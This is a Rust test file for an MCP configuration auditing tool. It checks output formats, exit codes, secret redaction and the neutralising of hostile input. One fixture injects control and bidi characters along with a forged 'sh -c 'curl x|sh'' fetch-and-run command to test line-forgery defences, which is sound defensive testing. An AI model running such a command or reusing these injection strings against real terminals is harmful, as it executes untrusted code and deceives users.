//! Output contracts: JSONL purity, SARIF location and validity, hostile names on
//! every channel, streams and exit codes.

use std::io::Read;
use std::process::Stdio;

use serde_json::json;

use crate::util::*;

/// Every character class that must never reach a terminal verbatim.
const HOSTILE: [&str; 24] = [
    "\n",
    "\r",
    "\x1b[2K",
    "\x1b[1;31m",
    "\u{7f}",
    "\u{85}",
    "\u{9b}",
    "\u{9d}",
    "\u{ad}",
    "\u{200b}",
    "\u{200f}",
    "\u{2028}",
    "\u{2029}",
    "\u{202e}",
    "\u{2066}",
    "\u{2064}",
    "\u{feff}",
    "\u{e0001}",
    "\u{e007f}",
    "\u{61c}",
    "\u{fe0f}",
    "\u{3164}",
    "\u{e000}",
    "\u{0378}",
];

fn hostile_name(ch: &str) -> String {
    format!("gh{ch}  mcp-warden pin sh -c 'curl x|sh' --approve #")
}

#[test]
fn hostile_server_names_are_neutralised_on_every_channel() {
    for ch in HOSTILE {
        let env = Env::new();
        let name = hostile_name(ch);
        // The second entry is malformed, so the hostile name also reaches a stderr warning.
        env.cursor(json!({
            name.clone(): {"url": "http://h.example.com/mcp"},
            format!("{name}-bad"): {"command": "node", "args": 3}
        }));
        let sarif = env.root().join("out.sarif");
        let text = env.doctor(&["--sarif", sarif.to_str().expect("utf-8")]);
        text.expect_code(2);
        assert!(
            text.stderr.contains("-bad"),
            "the malformed entry is named on stderr: {}",
            text.stderr
        );
        assert!(
            text.stderr.contains('\u{fffd}'),
            "{ch:?}: no U+FFFD on stderr"
        );
        let jsonl = env.doctor(&["--json"]);
        let sarif_text = std::fs::read_to_string(&sarif).expect("sarif written");
        for (channel, out) in [
            ("text", text.all()),
            ("jsonl", jsonl.all()),
            ("sarif", sarif_text),
        ] {
            // Newlines legitimately end lines; for them the forged-line check below is the test.
            if ch != "\n" {
                assert!(!out.contains(ch), "{ch:?} reached {channel}");
            }
            assert!(
                out.contains('\u{fffd}'),
                "no U+FFFD on {channel} for {ch:?}"
            );
            assert!(
                !out.lines()
                    .any(|l| l.trim_start().starts_with("mcp-warden pin sh")),
                "{ch:?} forged a pin line on {channel}"
            );
        }
    }
}

#[test]
fn hostile_text_in_paths_and_warnings_is_neutralised() {
    let env = Env::new();
    let dir = "evil\x1b]0;title\x07dir";
    let path = env.write(&format!("{dir}/mcp.json"), "{oops");
    let run = env.doctor(&["--no-discover", "--config", path.to_str().expect("utf-8")]);
    run.expect_code(2);
    assert!(!run.stderr.contains('\x1b'), "{:?}", run.stderr);
    assert!(!run.stderr.contains('\x07'));
    assert!(run.stderr.contains('\u{fffd}'));
}

#[test]
fn jsonl_stdout_is_pure_and_keys_are_ordered() {
    let env = Env::new();
    env.cursor(json!({"a": {"url": "http://h.example.com", "headers": {"X-Api-Key": GHP_ENG}}}));
    let run = env.doctor(&["--json"]);
    run.expect_code(1);
    for line in run.stdout.lines() {
        let v: serde_json::Value = serde_json::from_str(line).expect("JSON line");
        assert_eq!(v["kind"], "finding");
        let keys: Vec<&str> = line
            .split("\", \"")
            .map(|p| p.trim_start_matches("{\"").split('"').next().unwrap_or(""))
            .collect();
        assert_eq!(
            keys,
            ["kind", "rule_id", "severity", "level", "target", "message", "snippet"],
            "{line}"
        );
    }
    assert!(!run.stdout.contains(GHP_ENG));
    // With nothing found, stdout stays empty; the message goes to stderr.
    let empty = Env::new();
    let run = empty.doctor(&["--json"]);
    run.expect_code(0);
    assert!(run.stdout.is_empty(), "{}", run.stdout);
    assert!(run.stderr.contains("no MCP configs found"));
}

#[test]
fn sarif_locates_each_result_in_its_config_file() {
    let env = Env::new();
    env.write(
        "home/.cursor/mcp.json",
        "{\n  \"mcpServers\": {\n    \"gh\": {\"url\": \"http://h.example.com\"}\n  }\n}\n",
    );
    let sarif_path = env.root().join("d.sarif");
    let run = env.doctor(&["--sarif", sarif_path.to_str().expect("utf-8")]);
    run.expect_code(1);
    let sarif: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&sarif_path).expect("read")).expect("json");
    assert_eq!(sarif["version"], "2.1.0");
    let results = sarif["runs"][0]["results"].as_array().expect("results");
    assert!(!results.is_empty());
    for r in results {
        let loc = &r["locations"][0]["physicalLocation"];
        let uri = loc["artifactLocation"]["uri"].as_str().expect("uri");
        assert!(uri.ends_with(".cursor/mcp.json"), "{uri}");
        assert_eq!(loc["region"]["startLine"], 3);
        assert_eq!(loc["region"]["startColumn"], 5);
        assert_eq!(
            r["locations"][0]["logicalLocations"][0]["fullyQualifiedName"],
            "~/.cursor/mcp.json#gh"
        );
    }
    let rules = sarif["runs"][0]["tool"]["driver"]["rules"]
        .as_array()
        .expect("rules");
    assert!(rules
        .iter()
        .all(|r| r["shortDescription"]["text"].is_string()
            && r["properties"]["security-severity"].is_string()));
    let props = sarif["runs"][0]["properties"].to_string();
    assert!(
        props.contains("landlock") || props.contains("seccomp"),
        "{props}"
    );
}

#[test]
fn sarif_is_written_even_when_nothing_is_found() {
    let env = Env::new();
    let sarif_path = env.root().join("empty.sarif");
    let run = env.doctor(&["--sarif", sarif_path.to_str().expect("utf-8")]);
    run.expect_code(0);
    let sarif: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&sarif_path).expect("written"))
            .expect("json");
    assert_eq!(sarif["runs"][0]["results"], json!([]));
}

#[test]
fn unwritable_sarif_is_exit_two_without_a_report() {
    let env = Env::new();
    env.cursor(json!({"ok": {"url": "http://h.example.com"}}));
    let bad = env.root().join("missing-dir/out.sarif");
    let run = env.doctor(&["--sarif", bad.to_str().expect("utf-8")]);
    run.expect_code(2);
    assert!(
        run.stderr.contains("error: cannot write SARIF"),
        "{}",
        run.stderr
    );
    assert!(run.stdout.is_empty());
}

#[test]
fn no_ansi_when_not_a_terminal_and_table_lists_findings_by_severity() {
    let env = Env::new();
    env.cursor(
        json!({"gh": {"command": "npx", "args": ["-y", "@x/y"], "env": {"GITHUB_TOKEN": GHP_CLI}}}),
    );
    let run = env.doctor(&[]);
    assert!(!run.stdout.contains('\x1b'));
    let crit = run
        .stdout
        .find("│ critical  WRD-SEC-GITHUB")
        .expect("critical row");
    let high = run
        .stdout
        .find("│ high      WRD-SUP-NPX-UNPINNED")
        .expect("high row");
    assert!(crit < high);
    assert!(run.stdout.contains("Posture findings — "));
    // The low no-lock finding is the server's Next steps entry, not a row.
    assert!(!run.stdout.contains("WRD-DOCTOR-NO-LOCK"), "{}", run.stdout);
    assert!(run.stdout.contains("Next steps"));
}

#[test]
fn broken_stdout_pipe_is_not_a_crash() {
    let env = Env::new();
    let many: serde_json::Map<String, serde_json::Value> = (0..2000)
        .map(|i| (format!("s{i}"), json!({"url": "http://h.example.com"})))
        .collect();
    env.cursor(serde_json::Value::Object(many));
    let home = env.home();
    let mut child = env
        .command(&[
            "doctor",
            "--json",
            "--home",
            home.to_str().expect("utf-8"),
            "--platform",
            "linux",
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn");
    let mut first = [0u8; 16];
    child
        .stdout
        .as_mut()
        .expect("stdout")
        .read_exact(&mut first)
        .expect("read");
    drop(child.stdout.take());
    let out = child.wait_with_output().expect("wait");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert_eq!(out.status.code(), Some(1), "{stderr}");
}

#[test]
fn help_hides_the_test_options() {
    let env = Env::new();
    let out = env.command(&["doctor", "--help"]).output().expect("run");
    let help = String::from_utf8_lossy(&out.stdout);
    assert!(help.contains("--config"));
    assert!(!help.contains("--home"));
    assert!(!help.contains("--platform"));
    assert!(!help.contains("--system-root"));
}
